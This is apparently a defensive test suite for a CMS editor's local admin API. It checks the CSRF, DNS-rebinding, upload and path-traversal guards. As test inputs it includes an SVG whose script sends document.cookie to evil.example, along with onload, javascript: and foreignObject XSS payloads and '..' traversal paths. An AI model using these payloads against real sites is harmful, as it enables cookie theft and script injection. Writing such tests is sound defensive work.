// The editing UI's API answers only its own page: a request from another origin, without an
// Origin, to another Host name, or with a body a form could send (text/plain) is refused before
// anything is read or written; uploads are pictures the site reads, by their bytes. The API runs
// on a small HTTP server here (the dev server's middleware as it is), over a copy of content/.
import { createHash } from 'node:crypto'
import { cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { existsSync } from 'node:fs'
import { request, type IncomingHttpHeaders } from 'node:http'
import path from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { image } from '../../../../content/schema/articles.ts'
import { collections } from '../../../../content/schema/collections.ts'
import { MAX_API_BODY_BYTES } from '../../../../builder/admin/api.ts'
import { checkProposedFiles } from '../../../../builder/admin/entry-check.ts'
import { PICTURE_FORMATS } from '../../../../builder/admin/picture-check.ts'
import { ownServer, refusal } from '../../../../builder/admin/request-guard.ts'
import { timeLimit } from '../../../harness/time-limit.ts'
import type { LoopbackServer } from '../../../../server/listen-on-loopback.ts'
import { serveAdminApi } from '../../helpers/admin-api-server.ts'
import { scratchDir } from '../../helpers/scratch-dir.ts'

const repository = path.resolve(import.meta.dirname, '../../../..')
const project = scratchDir('editing-ui-guard-')
let server: LoopbackServer & { port: number }
let png: Buffer

const faq = 'content/faqs/about.yaml'
const images = 'content/articles/images'
const scriptedSvg =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>'

beforeAll(async () => {
  for (const name of await readdir(repository))
    if (name !== 'content') await symlink(path.join(repository, name), path.join(project(), name))
  await cp(path.join(repository, 'content'), path.join(project(), 'content'), { recursive: true })
  png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#c0ffee' } })
    .png()
    .toBuffer()
  // Files only the delete actions name.
  for (const name of ['old-1.png', 'old-2.png', 'old-3.png'])
    await writeFile(path.join(project(), images, name), png)
  server = await serveAdminApi({
    root: project(),
    collections,
    backend: { mode: 'local', url: '/admin/api/v1' },
  })
})

afterAll(() => server.close())

interface Answer {
  status: number
  headers: IncomingHttpHeaders
  body: { error?: string } & Record<string, unknown>
}

/** Sends a request with exactly these headers (Host included), as a browser or a script might. */
function send(
  address: string,
  {
    method = 'POST',
    headers = {},
    body,
  }: { method?: string; headers?: Record<string, string>; body?: unknown },
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port: server.port,
        path: address,
        method,
        headers: { host: `127.0.0.1:${server.port}`, ...headers },
      },
      (res) => {
        const chunks: Buffer[] = []
        res.on('data', (chunk: Buffer) => chunks.push(chunk))
        res.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8')
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            body: text ? JSON.parse(text) : {},
          })
        })
      },
    )
    req.on('error', reject)
    if (body !== undefined) req.write(typeof body === 'string' ? body : JSON.stringify(body))
    req.end()
  })
}

/** What the editor's page sends: Decap's proxy backend posts JSON with its page's Origin. */
const ownPage = () => ({
  origin: server.origin,
  'content-type': 'application/json; charset=utf-8',
  'sec-fetch-site': 'same-origin',
})

/** Every file under content/ with a hash of its bytes. */
async function contentFiles(): Promise<Record<string, string>> {
  const root = path.join(project(), 'content')
  const files: Record<string, string> = {}
  for (const entry of await readdir(root, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue
    const file = path.join(entry.parentPath, entry.name)
    files[path.relative(root, file)] = createHash('sha256')
      .update(await readFile(file))
      .digest('hex')
  }
  return files
}

const editedFaq = async () =>
  (await readFile(path.join(project(), faq), 'utf8')).replace(
    'Who founded Panelwise?',
    'Who started Panelwise?',
  )

/** Each call the API answers, with parameters that change files when it is obeyed. */
const calls: [string, string, () => Promise<unknown>][] = [
  [
    'persistEntry',
    '/admin/api/v1',
    async () => ({
      action: 'persistEntry',
      params: { entry: { path: faq, raw: await editedFaq() }, assets: [] },
    }),
  ],
  [
    'persistMedia',
    '/admin/api/v1',
    async () => ({
      action: 'persistMedia',
      params: {
        asset: { path: `${images}/new.png`, content: png.toString('base64'), encoding: 'base64' },
      },
    }),
  ],
  [
    'deleteFile',
    '/admin/api/v1',
    async () => ({ action: 'deleteFile', params: { path: `${images}/old-1.png` } }),
  ],
  [
    'deleteFiles',
    '/admin/api/v1',
    async () => ({
      action: 'deleteFiles',
      params: { paths: [`${images}/old-2.png`, `${images}/old-3.png`] },
    }),
  ],
  ['info', '/admin/api/v1', async () => ({ action: 'info' })],
  [
    'entriesByFolder',
    '/admin/api/v1',
    async () => ({
      action: 'entriesByFolder',
      params: { folder: 'content/tags', extension: 'yaml', depth: 1 },
    }),
  ],
  [
    'entriesByFiles',
    '/admin/api/v1',
    async () => ({ action: 'entriesByFiles', params: { files: [{ path: faq }] } }),
  ],
  ['getEntry', '/admin/api/v1', async () => ({ action: 'getEntry', params: { path: faq } })],
  [
    'getMedia',
    '/admin/api/v1',
    async () => ({ action: 'getMedia', params: { mediaFolder: images } }),
  ],
  [
    'getMediaFile',
    '/admin/api/v1',
    async () => ({ action: 'getMediaFile', params: { path: `${images}/old-1.png` } }),
  ],
  [
    'getDeployPreview',
    '/admin/api/v1',
    async () => ({ action: 'getDeployPreview', params: { collection: 'faqs', slug: 'about' } }),
  ],
  [
    'the content check',
    '/admin/api/check',
    async () => ({ collection: 'faqs', slug: 'about', data: {} }),
  ],
  [
    'the preview address',
    '/admin/api/preview-path',
    async () => ({ collection: 'faqs', slug: 'about' }),
  ],
]

const refusals: [
  string,
  () => { method?: string; headers: Record<string, string> },
  number,
  string,
][] = [
  [
    'from another site',
    () => ({
      headers: { ...ownPage(), origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
    }),
    403,
    'Sec-Fetch-Site is "cross-site"',
  ],
  [
    'from another origin, without Sec-Fetch-Site (Safari before 16.4)',
    () => ({ headers: { origin: 'https://evil.example', 'content-type': 'application/json' } }),
    403,
    'Origin https://evil.example is not this dev server',
  ],
  [
    'from another port of this machine',
    () => ({
      headers: { ...ownPage(), origin: 'http://127.0.0.1:1', 'sec-fetch-site': 'same-site' },
    }),
    403,
    'Sec-Fetch-Site is "same-site"',
  ],
  [
    'without an Origin',
    () => ({ headers: { 'content-type': 'application/json' } }),
    403,
    'no Origin header',
  ],
  [
    'to another Host name (DNS rebinding)',
    () => ({
      headers: {
        ...ownPage(),
        host: `evil.example:${server.port}`,
        origin: `http://evil.example:${server.port}`,
      },
    }),
    403,
    'the Host header "evil.example:',
  ],
  [
    'as text/plain (no preflight needed)',
    () => ({ headers: { ...ownPage(), 'content-type': 'text/plain' } }),
    415,
    'Content-Type "text/plain" is not read',
  ],
  [
    'as a form',
    () => ({ headers: { ...ownPage(), 'content-type': 'application/x-www-form-urlencoded' } }),
    415,
    'application/json only',
  ],
  [
    'as a preflight',
    () => ({
      method: 'OPTIONS',
      headers: {
        ...ownPage(),
        origin: 'http://evil.example',
        'access-control-request-method': 'POST',
      },
    }),
    403,
    'Origin http://evil.example',
  ],
  ['as a GET', () => ({ method: 'GET', headers: ownPage() }), 405, 'GET is not answered'],
]

describe.each(refusals)('a request %s', (_, headersOf, status, sentence) => {
  it.each(calls)('to %s is refused and changes nothing', async (_name, address, bodyOf) => {
    const before = await contentFiles()
    const { method, headers } = headersOf()
    const answer = await send(address, { method, headers, body: await bodyOf() })
    expect(answer.status).toBe(status)
    expect(answer.body).toEqual({ error: expect.stringContaining(sentence) })
    // No CORS grant: a browser keeps the answer from the other page.
    expect(
      Object.keys(answer.headers).filter((name) => name.startsWith('access-control-')),
    ).toEqual([])
    expect(await contentFiles()).toEqual(before)
  })
})

describe('pictures', () => {
  const persistMedia = (file: string, content: Buffer) =>
    send('/admin/api/v1', {
      headers: ownPage(),
      body: {
        action: 'persistMedia',
        params: {
          asset: {
            path: `${images}/${file}`,
            content: content.toString('base64'),
            encoding: 'base64',
          },
        },
      },
    })

  it('refuses a PNG named .svg, an SVG with a script under either name, and a scripted cover', async () => {
    const before = await contentFiles()
    expect((await persistMedia('chart.svg', png)).body).toEqual({
      error: `"${images}/chart.svg" is refused: it is named .svg but its bytes are a PNG picture; name it .png`,
    })
    const svg = Buffer.from(scriptedSvg)
    for (const name of ['chart.svg', 'chart.png']) {
      const answer = await persistMedia(name, svg)
      expect(answer.status).toBe(422)
      expect(answer.body.error).toContain(`"${images}/${name}" is refused`)
      expect(answer.body.error).toContain(
        'an SVG drawing holding "<script", which would run in the editor’s page',
      )
    }
    for (const [attack, found] of [
      ['<rect onload="alert(1)"/>', '"onload="'],
      ['<a href="javascript:alert(1)"><rect/></a>', '"javascript:"'],
      ['<foreignObject><div/></foreignObject>', '"<foreignObject"'],
    ]) {
      const drawing = Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4">${attack}</svg>`,
      )
      expect((await persistMedia('chart.svg', drawing)).body.error).toContain(`holding ${found}`)
    }
    const plain = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect/></svg>',
    )
    expect((await persistMedia('chart.svg', plain)).body).toEqual({
      error: `"${images}/chart.svg" is refused: its bytes are an SVG drawing, and only PNG, JPEG or WebP pictures are accepted (what the site’s image pipeline reads)`,
    })
    const asCover = await send('/admin/api/v1', {
      headers: ownPage(),
      body: {
        action: 'persistEntry',
        params: {
          entry: { path: faq, raw: await editedFaq() },
          assets: [
            { path: `${images}/cover.png`, content: svg.toString('base64'), encoding: 'base64' },
          ],
        },
      },
    })
    expect(asCover.status).toBe(422)
    expect(asCover.body.error).toContain(`"${images}/cover.png" is refused`)
    const asEntry = await send('/admin/api/v1', {
      headers: ownPage(),
      body: {
        action: 'persistEntry',
        params: { entry: { path: `${images}/drawing.svg`, raw: scriptedSvg }, assets: [] },
      },
    })
    expect(asEntry.body).toEqual({
      error: `"${images}/drawing.svg" is not an entry file (.yaml or .mdx); pictures are uploaded as pictures`,
    })
    expect(await contentFiles()).toEqual(before)
  })

  it('tells the content check about a picture the save would refuse', async () => {
    const answer = await send('/admin/api/check', {
      headers: ownPage(),
      body: {
        collection: 'faqs',
        slug: 'about',
        data: {},
        assets: [{ path: `${images}/x.jpg`, content: png.toString('base64') }],
      },
    })
    expect(answer.body.problems).toContainEqual(
      `"${images}/x.jpg" is refused: it is named .jpg but its bytes are a PNG picture; name it .png`,
    )
  })

  it('accepts each kind the image pipeline reads, and only those', async () => {
    const kinds = Object.keys(PICTURE_FORMATS).map((extension) => extension.slice(1))
    for (const kind of kinds)
      expect(image.shape.src.safeParse(`./images/x.${kind}`).success).toBe(true)
    for (const kind of ['svg', 'gif', 'avif', 'html'])
      expect(image.shape.src.safeParse(`./images/x.${kind}`).success).toBe(false)
    const made = {
      jpeg: await sharp(png).jpeg().toBuffer(),
      webp: await sharp(png).webp().toBuffer(),
    }
    expect((await persistMedia('photo.jpg', made.jpeg)).status).toBe(200)
    expect((await persistMedia('photo.webp', made.webp)).status).toBe(200)
    expect(await readFile(path.join(project(), images, 'photo.webp'))).toEqual(made.webp)
  })
})

describe('the editor’s own page', () => {
  it(
    'still saves, uploads, deletes, checks and previews',
    async () => {
      const call = async (index: number) => {
        const [, address, bodyOf] = calls[index]!
        return send(address, { headers: ownPage(), body: await bodyOf() })
      }
      const raw = await editedFaq()
      expect(await call(0)).toMatchObject({ status: 200, body: { message: 'entry persisted' } })
      expect(await readFile(path.join(project(), faq), 'utf8')).toBe(raw)
      expect(await call(1)).toMatchObject({ status: 200, body: { path: `${images}/new.png` } })
      expect(await readFile(path.join(project(), images, 'new.png'))).toEqual(png)
      expect(await call(2)).toMatchObject({ status: 200 })
      expect(await call(3)).toMatchObject({ status: 200 })
      expect(
        (await readdir(path.join(project(), images))).filter((name) => name.startsWith('old-')),
      ).toEqual([])
      expect(await call(12)).toMatchObject({ status: 200, body: { path: expect.any(String) } })
      // Without the Sec-Fetch-* headers (older browsers), the Origin alone decides.
      const { origin } = ownPage()
      expect(
        await send('/admin/api/v1', {
          headers: { origin, 'content-type': 'application/json' },
          body: { action: 'info' },
        }),
      ).toMatchObject({
        status: 200,
        body: { type: 'local_fs' },
      })
    },
    timeLimit(20_000),
  )

  it('is reached by each of its loopback names', () => {
    const own = ownServer(3000, ['127.0.0.1', '::1', '0.0.0.0'])
    expect([...own.hosts].sort()).toEqual(['127.0.0.1:3000', '[::1]:3000', 'localhost:3000'])
    for (const host of own.hosts)
      expect(
        refusal(
          {
            method: 'POST',
            headers: { host, origin: `http://${host}`, 'content-type': 'application/json' },
          },
          own,
        ),
      ).toBeUndefined()
    expect(
      refusal(
        {
          method: 'POST',
          headers: {
            host: 'localhost:3001',
            origin: 'http://localhost:3001',
            'content-type': 'application/json',
          },
        },
        own,
      ),
    ).toMatchObject({ status: 403 })
    // A browser leaves the default port out.
    expect(ownServer(443, ['cms.test'], 'https').hosts).toContain('cms.test')
  })
})

// Issue 68: each path the API is given resolves inside its collection's folder, links followed.
describe('the paths the editor’s own page names', () => {
  const v1 = (action: string, params: Record<string, unknown>) =>
    send('/admin/api/v1', { headers: ownPage(), body: { action, params } })
  const entry = (file: string, raw: string) => ({ entry: { path: file, raw }, assets: [] })
  const article = async () =>
    readFile(path.join(project(), 'content/articles/structured-scorecards.mdx'), 'utf8')

  it.each([
    ['a ".." segment', 'content/faqs/../articles/x.mdx', 'a ".." segment'],
    ['a "." segment', 'content/./faqs/x.yaml', 'a "." segment'],
    ['an empty segment', 'content//faqs/x.yaml', 'an empty segment'],
    ['a path from the root', '/etc/x.yaml', 'an empty segment'],
    ['the content rules', 'content/schema/x.ts', 'content/schema/ holds the content’s rules'],
    ['a folder of no collection', 'content/illustrations/x.yaml', 'is in no collection'],
  ])('refuses %s, for a save, a read and a delete, and changes nothing', async (_, file, why) => {
    const before = await contentFiles()
    const sentence = why.replace('’', "'")
    for (const answer of [
      await v1('persistEntry', entry(file, await article())),
      await v1('getEntry', { path: file }),
      await v1('deleteFile', { path: file }),
    ]) {
      expect(answer.status).toBe(422)
      expect(answer.body.error).toContain(sentence)
    }
    expect(await contentFiles()).toEqual(before)
  })

  it('refuses the content rules’ files for deletion', async () => {
    const answer = await v1('deleteFile', { path: 'content/schema/collections.ts' })
    expect(answer).toMatchObject({ status: 422 })
    expect(answer.body.error).toBe(
      '"content/schema/collections.ts" is refused: content/schema/ holds the content\'s rules, which the editor never changes',
    )
    expect(existsSync(path.join(project(), 'content/schema/collections.ts'))).toBe(true)
  })

  it('checks an entry named out of its folder without writing it anywhere', async () => {
    const before = await contentFiles()
    const answer = await send('/admin/api/check', {
      headers: ownPage(),
      body: { collection: 'faqs', slug: '../articles/x', data: { title: 'x', items: [] } },
    })
    expect(answer.status).toBe(422)
    expect(answer.body.error).toContain('a ".." segment')
    expect(await contentFiles()).toEqual(before)
  })

  it('follows no symbolic link out of a collection’s folder', async () => {
    const outside = path.join(project(), '..', `outside-${server.port}`)
    await mkdir(outside, { recursive: true })
    await writeFile(path.join(outside, 'secret.yaml'), 'secret: 1\n')
    await symlink(outside, path.join(project(), 'content/faqs/elsewhere'))
    await symlink(
      path.join(outside, 'secret.yaml'),
      path.join(project(), 'content/tags/secret.yaml'),
    )
    try {
      // A folder inside a collection is refused as such before its link is followed; a linked
      // file, as leading out.
      const NESTED = "a collection's entries sit directly in its folder"
      const OUT = 'leads out of its collection'
      for (const [answer, refusal] of [
        [await v1('getEntry', { path: 'content/faqs/elsewhere/secret.yaml' }), NESTED],
        [await v1('getEntry', { path: 'content/tags/secret.yaml' }), OUT],
        [await v1('persistEntry', entry('content/faqs/elsewhere/new.yaml', 'items: []\n')), NESTED],
        [await v1('persistEntry', entry('content/tags/secret.yaml', 'title: x\n')), OUT],
        [await v1('deleteFile', { path: 'content/faqs/elsewhere/secret.yaml' }), NESTED],
        [await v1('getMedia', { mediaFolder: 'content/faqs/elsewhere' }), OUT],
      ] as const) {
        expect(answer.status).toBe(422)
        expect(answer.body.error).toContain(refusal)
      }
      // Listed folders leave links out.
      const listed = await v1('entriesByFolder', {
        folder: 'content/tags',
        extension: 'yaml',
        depth: 1,
      })
      expect(JSON.stringify(listed.body)).not.toContain('secret')
      expect(await readdir(outside)).toEqual(['secret.yaml'])
      expect(await readFile(path.join(outside, 'secret.yaml'), 'utf8')).toBe('secret: 1\n')
    } finally {
      await rm(path.join(project(), 'content/faqs/elsewhere'))
      await rm(path.join(project(), 'content/tags/secret.yaml'))
      await rm(outside, { recursive: true })
    }
  })

  it('refuses a body over the limit with 413, before reading it', async () => {
    const answer = await send('/admin/api/v1', {
      headers: ownPage(),
      body: JSON.stringify({ action: 'info', params: { pad: 'x'.repeat(MAX_API_BODY_BYTES) } }),
    })
    expect(answer.status).toBe(413)
    expect(answer.body.error).toBe(
      `the request body is over ${MAX_API_BODY_BYTES / 1024 / 1024} MB, the most the editor's API reads; upload a smaller picture`,
    )
  })
})

describe('the content check’s copy of the project', () => {
  it('never writes through to the project, whatever path it is given', async () => {
    const before = await contentFiles()
    const raw = await readFile(path.join(project(), 'content/articles/structured-scorecards.mdx'))
    await expect(
      checkProposedFiles(project(), collections, [
        { path: 'content/faqs/../articles/injected.mdx', content: raw },
      ]),
    ).rejects.toThrow(
      '"content/faqs/../articles/injected.mdx" is not a plain path inside the project',
    )
    // A file beside every other, refused by the check: still nothing lands in content/.
    const problems = await checkProposedFiles(project(), collections, [
      {
        path: 'content/articles/structured-scorecards.mdx',
        content: Buffer.from('---\ntitle: 1\n---\n'),
      },
      { path: 'content/articles/images/new.png', content: png },
    ])
    expect(problems.length).toBeGreaterThan(0)
    expect(await contentFiles()).toEqual(before)
  })
})
